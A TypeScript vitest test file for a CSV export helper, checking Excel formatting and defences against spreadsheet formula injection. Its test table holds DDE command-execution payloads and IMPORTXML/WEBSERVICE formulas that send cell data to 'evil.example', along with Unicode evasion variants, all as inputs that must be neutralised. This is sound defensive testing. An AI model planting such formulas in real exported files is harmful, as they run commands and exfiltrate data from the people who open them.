import { expect, test } from 'vitest';
import { type CsvCell, csvOf } from './csv.ts';

const lineOf = (...cells: CsvCell[]) => csvOf([], [cells]).split('\r\n')[1];

test('a CSV file starts with a byte order mark and has CRLF line ends, as Excel requires', () => {
  expect(csvOf(['Order', 'Customer'], [[1041, 'सीता झा']])).toBe('\uFEFFOrder,Customer\r\n1041,सीता झा\r\n');
});

test.each([
  ['=1+1', "'=1+1"],
  ['+977 9812345678', "'+977 9812345678"],
  ['-5', "'-5"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1', '"\'\t=1"'],
  ['＝1+1', "'＝1+1"],
  ['＋1', "'＋1"],
  ['－1', "'－1"],
  ['＠SUM(A1)', "'＠SUM(A1)"],
  ['Sita;=1+1', '"Sita;=1+1"'],
  ['Sita\t=1+1', '"Sita\t=1+1"'],
  [' =cmd', "' =cmd"],
  ['=HYPERLINK("x","y")', '"\'=HYPERLINK(""x"",""y"")"'],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
  ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
  ["@cmd|' /C calc'!A0", "'@cmd|' /C calc'!A0"],
  ['=IMPORTXML("http://evil.example/?"&A1,"//a")', '"\'=IMPORTXML(""http://evil.example/?""&A1,""//a"")"'],
  ['=WEBSERVICE("http://evil.example/"&A1)', '"\'=WEBSERVICE(""http://evil.example/""&A1)"'],
  ['=IMAGE("http://evil.example/")', '"\'=IMAGE(""http://evil.example/"")"'],
  ["=DDE('cmd';'/C calc';'x')", "\"'=DDE('cmd';'/C calc';'x')\""],
  ['==1+1', "'==1+1"],
  ['=-1+1', "'=-1+1"],
  ['\r=1', '"\'\r=1"'],
  ['\n=1', '"\'\n=1"'],
  ['  +1', "'  +1"],
  ['\u00a0=1', "'\u00a0=1"],
  ['\ufeff=1', "'\ufeff=1"],
  ['\u3000＝1', "'\u3000＝1"],
  ['Sita,=1+1', '"Sita,=1+1"'],
  ['"=1+1', '"""=1+1"'],
  [' ＝1', "' ＝1"],
  ['\t＋1', '"\'\t＋1"'],
  ['\u200b=1', "'\u200b=1"],
  ['\u2060\u200e＠SUM(A1)', "'\u2060\u200e＠SUM(A1)"],
  ['\u00ad\u2800－1', "'\u00ad\u2800－1"],
  ['\ufe0f+1', "'\ufe0f+1"],
  ['\u202e=1', "'\u202e=1"],
  ['\u0000=1', "'\u0000=1"],
  ['﹢1+1', "'﹢1+1"],
  ['﹦1', "'﹦1"],
  ['﹫SUM(A1)', "'﹫SUM(A1)"],
  ['\u22121+1', "'\u22121+1"],
  ['Sita\n=1+1', '"Sita\n=1+1"'],
])('the text %j is not a formula in a spreadsheet', (text, cell) => {
  expect(lineOf(text)).toBe(cell);
});

test('commas, quotes and line breaks stay inside their cell, and a negative amount stays a number', () => {
  expect(lineOf('Ward 4, "Chowk"', 'two\nlines', -5, 'plain')).toBe(
    '"Ward 4, ""Chowk""","two\nlines",-5,plain',
  );
});

test.each([
  '5458e005',
  '01346798',
  '12E5',
  '9841203375',
  '(041) 520123',
  '98 41 20 33 75',
  '९८४१२०३३७५',
  '９８４１',
  '1/2',
  '2026-11-24',
  '10:30',
  '12.5',
  '.5',
  '10%',
  '₹100',
  'DEC25',
  '25 Dec',
  'March 2026',
  '1-Jan-2026',
  '10AM',
  '5PM',
  '5 p',
  '5 A',
  '10:30 PM',
  '10:30:15 a.m.',
  '१० AM',
  '1/2/2026 5 PM',
  '2026-01-02 10:00 pm',
  '2026-01-02T10:00:00Z',
  '1 Jan 2026 10:00',
  'Jan 1, 2026 5 PM',
  '1 January, 2026',
  '10:00 1 Jan 2026',
  'Thursday, January 1, 2026',
  'Sun 1 Feb',
  '.5e3',
  ',5E-3',
  '1,000e3',
  '(5e3)',
  '$5e3',
  '5e3%',
  '100₹',
  'TRUE',
  'false',
])('the text %s stays as it is written: a spreadsheet must not read it as a number or a day', (text) => {
  expect(lineOf(text)).toBe(text.includes(',') ? `"'${text}"` : `'${text}`);
});

test.each([
  '5458e00f-0000-4000-8000-000000000000',
  'c4e5abcd',
  '5458e005f',
  'SAVE10',
  'DECIDE25',
  'Ward 4',
  '4 Chowk',
  '127.0.0.1',
  '041-520123',
  '980-0000006',
  'Maya 5',
  '5p',
  '2A',
  '10 AMC',
  '5 Para',
  'PM',
  'e5',
  '.e5',
  'True Love',
  'Sunday',
  'May Lama',
  '1 Jan Street',
  '10:00 to Jan',
  'सीता झा',
  '2 × Margherita',
  'a-b',
  'x=1',
  "O'Neil",
])('the text %s needs no apostrophe', (text) => {
  expect(lineOf(text)).toBe(text);
});

test('an instant is a timestamp in Nepal time, which can be sorted', () => {
  expect(lineOf(new Date('2026-11-21T18:20:00.000Z'), 7)).toBe('2026-11-22 00:05:00,7');
});
